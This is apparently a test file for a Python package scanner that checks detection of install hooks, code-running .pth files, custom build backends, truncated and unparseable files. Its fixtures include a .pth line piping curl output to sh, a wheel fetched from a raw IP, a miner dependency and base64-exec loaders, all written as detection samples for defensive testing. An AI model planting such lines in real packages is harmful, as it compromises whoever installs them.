"""Install hooks, .pth files, build configuration and files that cannot be analysed."""

from __future__ import annotations

from stockade.analysis.model import Kind, Phase, Severity
from tests.analysis.python.helpers import code, hits, rules, scan, threats

RUNTIME, IMPORT, INSTALL = Phase.RUNTIME, Phase.IMPORT, Phase.INSTALL

SETUP_WITH_HOOK = code(
    """
    import subprocess
    from setuptools import setup
    from setuptools.command.install import install
    from setuptools.command.build_ext import build_ext


    class PostInstall(install):
        def run(self):
            install.run(self)
            subprocess.call(["echo", "installed"])


    class Build(build_ext):
        def run(self):
            build_ext.run(self)


    setup(name="pkg", cmdclass={"install": PostInstall, "build_ext": Build})
    """
)


def test_cmdclass_overrides_are_install_hooks() -> None:
    findings = scan({"setup.py": SETUP_WITH_HOOK})
    assert hits(findings, "py-install-hook") == [(7, INSTALL), (13, INSTALL)]
    severities = {f.line: f.severity for f in findings if f.rule == "py-install-hook"}
    assert severities == {7: Severity.LOW, 13: Severity.INFO}
    assert hits(findings, "py-process") == [(10, INSTALL)]


def test_cmdclass_built_up_in_a_variable() -> None:
    setup = code(
        """
        from setuptools import setup
        from setuptools.command.develop import develop

        class Dev(develop):
            def run(self):
                develop.run(self)

        cmds = {}
        cmds["develop"] = Dev
        setup(name="pkg", cmdclass=cmds)
        """
    )
    assert hits(scan({"setup.py": setup}), "py-install-hook") == [(4, INSTALL)]


def test_command_class_in_another_module() -> None:
    findings = scan(
        {
            "setup.py": code(
                """
                from setuptools import setup
                from build_tools.commands import Install
                setup(name="pkg", cmdclass={"install": Install})
                """
            ),
            "build_tools/__init__.py": "",
            "build_tools/commands.py": code(
                """
                import os
                from setuptools.command.install import install

                class Install(install):
                    def run(self):
                        os.system("make")
                        install.run(self)
                """
            ),
        }
    )
    assert hits(findings, "py-install-hook") == [(4, INSTALL)]
    assert hits(findings, "py-process") == [(6, INSTALL)]


def test_setup_cfg_cmdclass() -> None:
    findings = scan(
        {
            "setup.cfg": "[metadata]\nname = pkg\n\n[options]\ncmdclass =\n"
            "    install = pkg.hooks.Install\n",
            "pkg/__init__.py": "",
            "pkg/hooks.py": code(
                """
                import requests
                from setuptools.command.install import install

                class Install(install):
                    def run(self):
                        requests.get("https://pypi.test/ping")
                """
            ),
        }
    )
    assert hits(findings, "py-install-hook") == [(4, INSTALL)]
    assert hits(findings, "py-network") == [(6, INSTALL)]


def test_in_tree_build_backend() -> None:
    findings = scan(
        {
            "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\n'
            'backend-path = ["_custom"]\n',
            "_custom/backend.py": code(
                """
                import os

                def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
                    os.system("make wheel")

                def helper():
                    os.system("make clean")
                """
            ),
        }
    )
    assert hits(findings, "py-build-backend") == [(3, INSTALL)]
    assert hits(findings, "py-process") == [(4, INSTALL), (7, RUNTIME)]
    assert "_custom/backend.py" in next(f.message for f in findings if f.rule == "py-build-backend")


def test_build_configuration_names_endpoints() -> None:
    findings = scan(
        {
            "pyproject.toml": '[build-system]\nrequires = ["helper @ http://45.61.136.22/h.whl"]\n',
            "setup.cfg": "[options]\nsetup_requires =\n    miner @ https://x.pypi.test/xmrig.tar.gz\n",
        }
    )
    assert hits(findings, "py-exfil-endpoint") == [(2, INSTALL)]
    assert hits(findings, "py-miner") == [(3, INSTALL)]


def test_ordinary_pyproject_is_quiet() -> None:
    findings = scan(
        {
            "pyproject.toml": code(
                """
                [build-system]
                requires = ["setuptools>=61"]
                build-backend = "setuptools.build_meta"

                [project]
                name = "pkg"
                urls = {Homepage = "https://pypi.test/pkg", Chat = "https://discord.gg/abc"}
                """
            )
        }
    )
    assert findings == []


def test_pth_file_that_runs_code_is_a_threat() -> None:
    findings = scan(
        {
            "evil.pth": "/opt/extra\n"
            "import os; os.system('curl -s https://files.pypi.test/a | sh')\n"
            "import sys; exec(sys.argv[0])\n"
        }
    )
    assert hits(findings, "py-pth-exec") == [(2, IMPORT), (3, IMPORT)]
    assert hits(findings, "py-shell-download-exec") == [(2, IMPORT)]


def test_pth_files_that_only_set_up_paths_are_capabilities() -> None:
    nspkg = (
        "import sys, types, os;has_mfs = sys.version_info > (3, 5);"
        "p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('acme',));"
        "importlib = has_mfs and __import__('importlib.util');"
        "m = has_mfs and sys.modules.setdefault('acme', types.ModuleType('acme'))\n"
    )
    precedence = (
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; "
        "enabled = os.environ.get(var, 'local') == 'local'; "
        "enabled and __import__('_distutils_hack').add_shim(); \n"
    )
    findings = scan(
        {
            "acme-nspkg.pth": nspkg,
            "distutils-precedence.pth": precedence,
            "paths.pth": "/opt/lib\n./vendor\n",
            "_virtualenv.pth": "import _virtualenv\n",
        }
    )
    assert hits(findings, "py-pth-import") == [(1, IMPORT)] * 3
    assert threats(findings) == []


def test_pth_exec_of_a_literal_is_judged_on_the_literal() -> None:
    coverage_style = (
        'import sys; exec(\'import os\\nif os.getenv("COVERAGE_PROCESS_START"):\\n'
        " import coverage\\n coverage.process_startup()')\n"
    )
    loader = (
        "import sys; exec('import base64, os\\n"
        'os.system(base64.b64decode("Y3VybCBodHRwOi8vcHlwaS50ZXN0").decode())\')\n'
    )
    quiet = scan({"a1_coverage.pth": coverage_style})
    assert hits(quiet, "py-pth-import") == [(1, IMPORT)]
    assert threats(quiet) == []
    loud = scan({"zz_loader.pth": loader})
    assert hits(loud, "py-pth-exec") == [(1, IMPORT)]


def test_py2_setup_py_is_an_invalid_install_script() -> None:
    findings = scan({"setup.py": 'print "installing"\n', "pkg/old.py": "print 'x'\n"})
    assert [(f.rule, f.path) for f in findings] == [
        ("py-install-script-invalid", "pkg-1.0/setup.py"),
        ("py-syntax-error", "pkg-1.0/pkg/old.py"),
    ]
    assert findings[0].severity is Severity.LOW
    assert findings[1].severity is Severity.INFO


def test_binary_named_py() -> None:
    findings = scan({"setup.py": b"\x7fELF\x02\x01\x01\x00" + bytes(64)})
    assert hits(findings, "py-install-script-invalid") == [(None, INSTALL)]


def test_huge_file_is_analysed_on_its_first_two_megabytes() -> None:
    filler = ("# " + "padding " * 12 + "\n") * 22_000
    tail = 'exec(__import__("base64").b64decode("aW1wb3J0IG9zOyBwcmludChvcy5nZXRjd2QoKSk="))\n'
    head = 'import base64\nexec(base64.b64decode("aW1wb3J0IG9zOyBwcmludChvcy5nZXRjd2QoKSk="))\n'
    findings = scan({"pkg/big.py": head + filler + tail})
    assert hits(findings, "py-file-truncated") == [(None, RUNTIME)]
    assert hits(findings, "py-exec-decoded") == [(2, RUNTIME)]


def test_cut_in_the_middle_of_a_statement_backs_off_to_the_last_one() -> None:
    filler = ("# " + "padding " * 12 + "\n") * 21_100
    split = 'BIG = """\n' + "text\n" * 200_000 + '"""\n'
    findings = scan({"pkg/big.py": "import os\nos.system('ls')\n" + filler + split})
    assert hits(findings, "py-file-truncated") == [(None, RUNTIME)]
    assert hits(findings, "py-process") == [(2, RUNTIME)]


def test_analysis_notes_are_capabilities() -> None:
    findings = scan({"pkg/mod.py": "def broken(:\n"})
    assert [f.kind for f in findings] == [Kind.CAPABILITY]
    assert "py-syntax-error" in rules(findings)


def test_test_files_that_nothing_runs_are_skipped_unless_they_look_suspicious() -> None:
    findings = scan(
        {
            "tests/test_plain.py": "import subprocess\nsubprocess.run(['ls'])\nexec(code)\n",
            "tests/test_loader.py": code(
                """
                import base64
                exec(base64.b64decode("aW1wb3J0IG9zOyBwcmludChvcy5nZXRjd2QoKSk="))
                """
            ),
        }
    )
    assert [(f.rule, f.path, f.line) for f in findings] == [
        ("py-exec-decoded", "pkg-1.0/tests/test_loader.py", 2)
    ]


def test_command_classes_not_installed_through_cmdclass_are_not_hooks() -> None:
    findings = scan(
        {
            "setup.py": code(
                """
                from setuptools import setup
                from setuptools.command.install import install

                class Unused(install):
                    pass

                setup(name="pkg", cmdclass={"install": Unused})
                """
            )
        }
    )
    assert findings == []


def test_long_chains_of_local_calls_stay_within_limits() -> None:
    chain = "".join(f"def f{i}(x):\n    return f{i + 1}(x)\n" for i in range(3000))
    findings = scan({"setup.py": chain + "def f3000(x):\n    return x\n\nf0(1)\n"})
    assert findings == []
